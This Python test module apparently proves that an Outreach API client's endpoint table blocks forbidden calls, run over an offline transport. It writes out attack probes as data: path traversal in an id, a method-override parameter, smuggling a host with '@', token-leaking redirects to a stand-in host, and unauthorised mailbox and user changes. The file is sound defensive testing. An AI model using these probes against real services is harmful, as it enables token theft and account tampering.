"""Proof: attempts forbidden calls with the client of production, over a transport that cannot connect.

The proof grants itself every permission, so that what stops a call is the table of endpoints alone.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from typing import Any

from integrations.errors import IntegrationError, PolicyViolation
from integrations.interfaces import CallRecord, Permission, Recorder, Unlimited
from integrations.outreach.allowed_calls import FIND_PROSPECT, LIST_USERS, WRITE_SIGNATURE, Endpoint
from integrations.outreach.client import OfflineTransport, OutreachClient
from integrations.outreach.pace import Pace
from integrations.outreach.scopes import REQUESTED

Act = Callable[[OutreachClient], object]

ELSEWHERE = "https://elsewhere.example"
_EVERYTHING = frozenset({*REQUESTED, "sequences.all", "mailings.all", "calls.all", "tasks.all"})
_ONE_USER = {"fields[user]": "email", "page[size]": "1"}
_SIGNATURE = {"emailSignature": "<p>Proof</p>"}


@dataclass(frozen=True, slots=True)
class Attempt:
    """One forbidden call. would: what it would have done, had it left; act: makes it through a client."""

    title: str
    would: str
    act: Act


@dataclass(frozen=True, slots=True)
class Finding:
    """How one attempt ended. is_stopped: it was refused before a token was asked for or a connection opened."""

    attempt: Attempt
    is_stopped: bool
    how: str


@dataclass(frozen=True, slots=True)
class Proof:
    """What came of all attempts.

    connections: how many came as far as opening one; tokens: how often the access token was asked for.
    is_guarded: one call that is allowed did reach the transport and was counted, so that a zero means something.
    """

    findings: tuple[Finding, ...]
    connections: int
    tokens: int
    is_guarded: bool

    @property
    def stopped(self) -> int:
        return sum(finding.is_stopped for finding in self.findings)

    @property
    def holds(self) -> bool:
        return self.is_guarded and not self.connections and self.stopped == len(self.findings)


def _read(name: str, path: str, scope: str) -> Act:
    query = {"fields[record]": "id", "page[size]": "1"}
    forged = replace(
        LIST_USERS, name=name, path=path, scope=scope, resource_type="record", fields_read=("id",)
    )
    return lambda client: client.send(forged, query=query)


def _forge(name: str, method: str, path: str, scope: str, *, path_id: str | None = None) -> Act:
    forged = Endpoint(
        name=name,
        method=method,
        path=path,
        scope=scope,
        resource_type="user",
        fields_read=(),
        attributes_written=() if method in ("GET", "DELETE") else ("locked",),
        source="",
        purpose="",
    )
    body = None if method in ("GET", "DELETE") else {"data": {"type": "user", "attributes": {"locked": True}}}
    return lambda client: client.send(forged, path_id=path_id, body=body)


def _write(attributes: Mapping[str, Any], *, path_id: str = "7", id: int = 7, **more: Any) -> Act:
    body = {"data": {"type": "mailbox", "id": id, "attributes": dict(attributes), **more}}
    return lambda client: client.send(WRITE_SIGNATURE, path_id=path_id, body=body)


ATTEMPTS: tuple[Attempt, ...] = (
    Attempt(
        "Delete a mailbox",
        "A colleague’s mailbox is gone from Outreach, and nothing is sent from it any more.",
        _forge("delete_mailbox", "DELETE", "/api/v2/mailboxes/{id}", "mailboxes.all", path_id="7"),
    ),
    Attempt(
        "Create a user",
        "A new account exists in your organisation, for whoever requested it.",
        _forge("create_user", "POST", "/api/v2/users", "users.all"),
    ),
    Attempt(
        "Lock a user",
        "A colleague cannot sign in to Outreach any more.",
        _forge("lock_user", "PATCH", "/api/v2/users/{id}", "users.all", path_id="7"),
    ),
    Attempt(
        "Set a mailbox’s SMTP password",
        "Mail leaves through a server with a password of somebody else’s choosing.",
        _write({"smtpPassword": "never-sent"}),
    ),
    Attempt(
        "Write a second attribute beside the signature",
        "Sending is switched off for the mailbox, hidden in an ordinary delivery.",
        _write({**_SIGNATURE, "sendDisabled": "true"}),
    ),
    Attempt(
        "Change another object than the address names",
        "The signature is written to mailbox 8, while every log names mailbox 7.",
        _write(_SIGNATURE, id=8),
    ),
    Attempt(
        "Assign a mailbox to another user",
        "The mailbox belongs to user 1 from then on.",
        _write(_SIGNATURE, relationships={"user": {"data": {"type": "user", "id": 1}}}),
    ),
    Attempt(
        "Change the path of the address through the id",
        "The request goes to a user, although the table allows mailboxes only.",
        _write(_SIGNATURE, path_id="7/../../users/1"),
    ),
    Attempt("Read sequences", "This portal learns your sales sequences.",
            _read("list_sequences", "/api/v2/sequences", "sequences.all")),
    Attempt("Read e-mails", "This portal learns what your people wrote to their prospects.",
            _read("list_mailings", "/api/v2/mailings", "mailings.all")),
    Attempt("Read calls", "This portal learns who telephoned with whom, and when.",
            _read("list_calls", "/api/v2/calls", "calls.all")),
    Attempt("Read tasks", "This portal learns your people’s task lists.",
            _read("list_tasks", "/api/v2/tasks", "tasks.all")),
    Attempt(
        "List every prospect",
        "Your whole list of prospects is copied, page by page.",
        lambda client: client.send(FIND_PROSPECT, query={"fields[prospect]": "emails", "page[size]": "1000"}),
    ),
    Attempt(
        "Read more of a user than the table names",
        "This portal learns when somebody last signed in.",
        lambda client: client.send(LIST_USERS, query={**_ONE_USER, "fields[user]": "currentSignInAt"}),
    ),
    Attempt(
        "Override the method in the query",
        "A server that honours it treats the read as a deletion.",
        lambda client: client.send(LIST_USERS, query={**_ONE_USER, "_method": "DELETE"}),
    ),
    Attempt(
        "Follow a “next page” link to another host",
        "Your access token is handed to whoever runs that host.",
        lambda client: client.follow(LIST_USERS, f"{ELSEWHERE}/api/v2/users?page%5Bafter%5D=x"),
    ),
    Attempt(
        "Call an absolute address",
        "Your access token is handed to whoever runs that host.",
        _read("call_absolute_address", f"{ELSEWHERE}/api/v2/users", "users.all"),
    ),
    Attempt(
        "Put another host into the address",
        "The part before the @ is read as a user name, and the token goes to the host after it.",
        _read("smuggle_host", "@elsewhere.example/api/v2/users", "users.all"),
    ),
    Attempt(
        "Call an address that is not in the table of endpoints",
        "Any call would be possible.",
        lambda client: client.send(f"{ELSEWHERE}/"),  # type: ignore[arg-type]  # what a careless caller would do
    ),
)  # fmt: skip


class _CountedAccess:
    """Holds no token, and counts who asks for one."""

    def __init__(self) -> None:
        self.asked = 0

    def token(self) -> str:
        self.asked += 1
        return "no-token-in-the-proof"

    def renew(self, rejected: str) -> str:
        return self.token()


def run_proof(*, base_url: str, record: Recorder, attempts: tuple[Attempt, ...] = ATTEMPTS) -> Proof:
    """Return what came of every attempt; nothing leaves, whatever the policy says.

    record: is told of each refusal, as in production; not of the one allowed call that tries the transport.
    """
    transport, access = OfflineTransport(), _CountedAccess()
    with _open_client(base_url, transport, access, record) as client:
        findings = tuple(_try(attempt, client, transport, access) for attempt in attempts)
    connections, tokens = transport.reached, access.asked
    return Proof(findings, connections, tokens, is_guarded=_is_guarded(base_url))


def _open_client(
    base_url: str, transport: OfflineTransport, access: _CountedAccess, record: Recorder
) -> OutreachClient:
    return OutreachClient(
        base_url=base_url,
        access=access,
        budget=Unlimited(),
        permission=lambda: Permission(granted=_EVERYTHING, writes_allowed=True),
        record=record,
        transport=transport,
        pace=Pace(repeats=False),
    )


def _try(
    attempt: Attempt, client: OutreachClient, transport: OfflineTransport, access: _CountedAccess
) -> Finding:
    before = (transport.reached, access.asked)
    try:
        attempt.act(client)
    except PolicyViolation as violation:
        how = str(violation)
    except IntegrationError as error:
        how = f"{error.message} ({error.detail})" if error.detail else error.message
    except (
        Exception
    ) as error:  # whatever a call stumbles over behind a hole, the proof has to say that there is one
        return Finding(
            attempt, is_stopped=False, how=f"No rule stopped it; it failed ({type(error).__name__})."
        )
    else:
        return Finding(attempt, is_stopped=False, how="Nothing stopped it.")
    return Finding(attempt, is_stopped=(transport.reached, access.asked) == before, how=how)


def _is_guarded(base_url: str) -> bool:
    """Return whether one call of the table passes the policy, asks for a token and is counted at the transport."""
    transport, access, told = OfflineTransport(), _CountedAccess(), list[CallRecord]()
    with _open_client(base_url, transport, access, told.append) as client:
        try:
            client.send(LIST_USERS, query=_ONE_USER)
        except IntegrationError:
            return (transport.reached, access.asked, len(told)) == (1, 1, 1)
    return False
